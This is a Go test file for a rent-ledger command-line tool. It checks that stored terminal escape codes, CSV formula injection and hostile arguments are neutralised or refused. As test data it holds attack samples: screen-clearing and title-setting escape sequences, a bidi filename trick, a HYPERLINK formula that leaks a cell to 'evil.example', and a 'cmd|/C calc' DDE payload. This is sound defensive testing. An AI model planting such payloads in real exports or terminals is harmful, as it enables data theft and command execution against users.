package main

import (
	"database/sql"
	"encoding/csv"
	"strings"
	"testing"
)

// Issue 13: text that cannot attack a screen or a spreadsheet, and small
// inputs refused with nothing written.

// exec runs SQL on the test database behind the software's back.
func (c *cli) exec(queries ...string) {
	c.t.Helper()
	db, err := sql.Open("sqlite", "file:"+c.db)
	if err != nil {
		c.t.Fatal(err)
	}
	defer db.Close()
	for _, q := range queries {
		if _, err := db.Exec(q); err != nil {
			c.t.Fatalf("%s: %v", q, err)
		}
	}
}

// hostile reports terminal control characters in output.
func hostile(s string) bool { return strings.ContainsAny(s, "\x1b\x07\u009b\u009d") }

func TestStoredTerminalEscapesNeverReachTheCLIOutput(t *testing.T) {
	t.Parallel()
	c := newCLI(t)
	twoAccounts(c)
	c.ok("post", "NW3001", "500.00", "--type", "charge", "--date", "2026-11-02")
	c.ok("pay", "NW3001", "10.00", "--method", "cash", "--reference", "R1", "--date", "2026-11-20")
	c.ok("note", "NW3001", "called about arrears")
	c.ok("event", "NW3001", "letter-1", "--detail", "first letter")
	c.exec(
		"UPDATE resident SET name = 'Sam' || char(27) || '[2J' || char(27) || ']0;owned' || char(7) || ' Example'",
		"UPDATE account SET officer = char(27) || '[31masmith' || char(27) || '[0m'",
		"UPDATE txn SET reference = 'R1' || char(27) || ']2;title' || char(27) || '\\' WHERE reference = 'R1'",
		"UPDATE note SET text = 'called' || char(27) || '[2J about arrears', officer = char(27) || '[1masmith'",
		"UPDATE event SET detail = 'first' || char(155) || '2J letter'",
	)
	for _, args := range [][]string{
		{"account", "show", "NW3001"},
		{"account", "show", "NW3001", "--format", "json"},
		{"ledger", "NW3001"},
		{"ledger", "NW3001", "--format", "csv"},
		{"ledger", "NW3001", "--format", "json"},
		{"statement", "NW3001", "--from", "2026-10-01", "--to", "2026-11-23"},
		{"statement", "NW3001", "--from", "2026-10-01", "--to", "2026-11-23", "--format", "csv"},
		{"worklist", "--all"},
		{"worklist", "--all", "--format", "csv"},
		{"worklist", "--all", "--format", "json"},
	} {
		r := c.run(args...)
		if r.code != 0 {
			t.Fatalf("%v: exit %d: %s", args, r.code, r.stderr)
		}
		if hostile(r.stdout) || hostile(r.stderr) {
			t.Fatalf("%v printed a terminal control sequence:\n%q", args, r.stdout)
		}
	}
	if out := c.ok("account", "show", "NW3001"); !strings.Contains(out, "Sam Example") {
		t.Fatalf("the readable name was lost:\n%s", out)
	}
	if out := c.ok("ledger", "NW3001"); !strings.Contains(out, "R1") {
		t.Fatalf("the readable reference was lost:\n%s", out)
	}
}

func TestCSVCellsThatAreFormulasAreNeutralised(t *testing.T) {
	t.Parallel()
	c := newCLI(t)
	accounts := c.file("accounts.csv", "ref,kind,status,name,address,start_date,weekly_rent\n"+
		"NW4001,rent,current,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",@SUM(1+1) Road,2026-06-01,100.00\n")
	c.ok("ingest", "accounts", accounts)
	c.ok("post", "NW4001", "600.00", "--type", "charge", "--date", "2026-11-02")
	c.ok("pay", "NW4001", "112.50", "--method", "cash", "--reference", "=1+2", "--date", "2026-11-20")
	c.ok("post", "NW4001", "1.00", "--type", "adjustment", "--note", "+cmd|' /C calc'!A0", "--date", "2026-11-21")

	cells := func(args ...string) map[string]bool {
		t.Helper()
		rows, err := csv.NewReader(strings.NewReader(c.ok(args...))).ReadAll()
		if err != nil {
			t.Fatalf("%v: %v", args, err)
		}
		out := map[string]bool{}
		for _, r := range rows {
			for _, v := range r {
				out[v] = true
			}
		}
		return out
	}
	worklist := cells("worklist", "--all", "--format", "csv")
	if !worklist[`'=HYPERLINK("http://evil.example/?"&A1,"Click")`] {
		t.Fatalf("worklist CSV name not neutralised: %v", worklist)
	}
	ledger := cells("ledger", "NW4001", "--format", "csv")
	if !ledger["'=1+2"] || ledger["=1+2"] {
		t.Fatalf("ledger CSV reference not neutralised: %v", ledger)
	}
	if !ledger["-112.50"] {
		t.Fatalf("a negative amount must stay a bare number: %v", ledger)
	}
	statement := cells("statement", "NW4001", "--from", "2026-11-01", "--to", "2026-11-23", "--format", "csv")
	if !statement["'=1+2"] || !statement["'+cmd|' /C calc'!A0"] || !statement["-112.50"] {
		t.Fatalf("statement CSV: %v", statement)
	}
	for v := range statement {
		if v != "" && strings.ContainsRune("=+@\t\r", rune(v[0])) {
			t.Fatalf("statement CSV cell %q would run as a formula", v)
		}
	}
}

func TestCSVCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"=1+2": "'=1+2", "+44 7700 900301": "'+44 7700 900301", "-cmd": "'-cmd", "@SUM(A1)": "'@SUM(A1)",
		"\tx": "'\tx", "\rx": "'\rx", "-112.50": "-112.50", "+3": "+3", "-5": "-5", "12.5": "12.5",
		"-.5": "'-.5", "-1e5": "'-1e5", "-": "'-", "Sam": "Sam", "": "",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzCSVWriter(f *testing.F) {
	for _, s := range []string{"=1+2", "-112.50", "@x", "\t=1", "plain", "a,b\n\"c\""} {
		f.Add(s, "x")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		var buf strings.Builder
		w := newCSVWriter(&buf)
		if err := w.Write([]string{a, b}); err != nil {
			return // text csv cannot hold (invalid UTF-8 is written anyway)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(strings.NewReader(buf.String()))
		r.LazyQuotes = true
		rows, err := r.ReadAll()
		if err != nil || len(rows) == 0 {
			return // encoding/csv does not round-trip every string (a lone \r)
		}
		for _, v := range rows[0] {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && !plainNumber(v) {
				t.Fatalf("cell %q of %q would run as a formula", v, buf.String())
			}
		}
		for i, in := range []string{a, b} {
			if i < len(rows[0]) && strings.TrimPrefix(rows[0][i], "'") != in && !strings.ContainsAny(in, "\r\n\"") {
				t.Fatalf("cell %q came back as %q", in, rows[0][i])
			}
		}
	})
}

func TestHostileArgumentsAreRefusedAndNothingIsWritten(t *testing.T) {
	t.Parallel()
	c := newCLI(t)
	twoAccounts(c)
	before := c.dump()
	cases := []struct {
		name string
		args []string
		want string
	}{
		{"a clear-screen escape in a payment reference", []string{"pay", "NW3001", "10.00", "--method", "cash", "--reference", "R\x1b[2J"}, "--reference: holds an escape character"},
		{"an OSC title in a note", []string{"note", "NW3001", "hello\x1b]0;owned\x07"}, "TEXT: holds an escape character"},
		{"a colour code in an adjustment note", []string{"post", "NW3001", "5.00", "--type", "adjustment", "--note", "\x1b[31mred"}, "--note: holds an escape character"},
		{"a bidi override in an event detail", []string{"event", "NW3001", "letter-1", "--detail", "sent \u202eexe.txt"}, "--detail: holds a bidirectional"},
		{"an escape in the officer", []string{"note", "NW3001", "hello", "--officer", "asmith\x1b[2J"}, "--officer: holds an escape character"},
		{"a 201-character name", []string{"account", "create", "NW3009", "--kind", "rent", "--name", strings.Repeat("n", 201), "--address", "1 Road",
			"--start", "2026-10-05", "--rent", "100.00"}, "--name: is 201 characters long: at most 200"},
		{"a card number in a name", []string{"account", "create", "NW3009", "--kind", "rent", "--name", "4111.1111.1111.1111", "--address", "1 Road",
			"--start", "2026-10-05", "--rent", "100.00"}, "--name: holds what looks like a card number"},
		{"a C1 control set on a field", []string{"account", "set", "NW3001", "phone=0770\u009b2J"}, "phone: holds a control character"},
		{"an empty payment date", []string{"pay", "NW3001", "10.00", "--method", "cash", "--date", ""}, "--date: is empty"},
		{"an empty note date", []string{"note", "NW3001", "hello", "--date", ""}, "--date: is empty"},
		{"an empty follow-up date", []string{"note", "NW3001", "hello", "--follow-up", " "}, "--follow-up: is empty"},
		{"an empty event date", []string{"event", "NW3001", "letter-1", "--date="}, "--date: is empty"},
	}
	for _, cs := range cases {
		t.Run(cs.name, func(t *testing.T) {
			stderr := c.refused(3, cs.args...)
			if !strings.Contains(stderr, cs.want) {
				t.Fatalf("stderr %q, want %q", stderr, cs.want)
			}
			if hostile(stderr) {
				t.Fatalf("the refusal echoed a control sequence: %q", stderr)
			}
			if c.dump() != before {
				t.Fatal("a refused command wrote to the database")
			}
		})
	}
}

func TestCardNumbersInArgumentsAreMaskedAndTheOfficerTold(t *testing.T) {
	t.Parallel()
	c := newCLI(t)
	twoAccounts(c)
	r := c.run("note", "NW3001", "paid by card 4111.1111.1111.1111 today")
	if r.code != 0 || !strings.Contains(r.stderr, "TEXT: 1 card number(s) masked") {
		t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
	}
	r = c.run("pay", "NW3001", "10.00", "--method", "card", "--reference", "４１１１ １１１１ １１１１ １１１１")
	if r.code != 0 || !strings.Contains(r.stderr, "--reference: 1 card number(s) masked") {
		t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
	}
	dump := c.dump()
	if strings.Contains(dump, "4111.1111.1111") || strings.Contains(dump, "４１１１ １１１１") {
		t.Fatal("a full card number was stored")
	}
}

func TestIngestRefusalsWriteNothing(t *testing.T) {
	t.Parallel()
	c := newCLI(t)
	accounts := c.file("accounts.csv", "ref,kind,status,name,address,start_date,weekly_rent\nNW5001,rent,current,Sam,1 Road,2026-10-05,100.00\n")
	c.ok("ingest", "accounts", accounts)
	before := c.dump()
	head := "ref,date,type,amount,method,reference\n"
	cases := []struct{ name, file, want string }{
		{"a payment dated after --today", head + "NW5001,2026-11-24,payment,-10.00,cash,R1\n", "t.csv:2: date: 2026-11-24 is in the future (today is 2026-11-23)"},
		{"a charge before the tenancy began", head + "NW5001,2026-10-04,charge,10.00,,\n", "t.csv:2: date: 2026-10-04 is before NW5001's tenancy began (2026-10-05)"},
		{"a NUL inside a reference", head + "NW5001,2026-11-20,payment,-10.00,cash,R1\x00hidden\n", "t.csv:2: reference: holds a NUL character"},
	}
	for _, cs := range cases {
		t.Run(cs.name, func(t *testing.T) {
			stderr := c.refused(3, "ingest", "transactions", c.file("t.csv", cs.file))
			if !strings.Contains(stderr, cs.want) {
				t.Fatalf("stderr %q, want %q", stderr, cs.want)
			}
			if c.dump() != before {
				t.Fatal("a refused extract wrote to the database")
			}
		})
	}
	nul := c.file("a.csv", "ref,kind,status,name,address,start_date,weekly_rent\nNW5002,rent,current,Sam\x00Evil,1 Road,2026-10-05,100.00\n")
	if stderr := c.refused(3, "ingest", "accounts", nul); !strings.Contains(stderr, "a.csv:2: name: holds a NUL character") {
		t.Fatalf("stderr %q", stderr)
	}
	for _, path := range []string{c.dir + "/missing.csv", c.dir} {
		for _, kind := range []string{"accounts", "transactions"} {
			stderr := c.refused(3, "ingest", kind, path)
			if !strings.Contains(stderr, "no such file") && !strings.Contains(stderr, "is a folder") {
				t.Fatalf("ingest %s %s: %q", kind, path, stderr)
			}
		}
	}
	if c.dump() != before {
		t.Fatal("a refused extract wrote to the database")
	}
}

func TestPrintableWriterKeepsCharactersSplitBetweenWrites(t *testing.T) {
	t.Parallel()
	var out strings.Builder
	w := newPrintableWriter(&out)
	pound := []byte("£")
	w.Write([]byte("paid " + string(pound[:1])))
	w.Write([]byte(string(pound[1:]) + "5 by Sam\x1b[2J\n"))
	w.Flush()
	if out.String() != "paid £5 by Sam\n" {
		t.Fatalf("%q", out.String())
	}
}
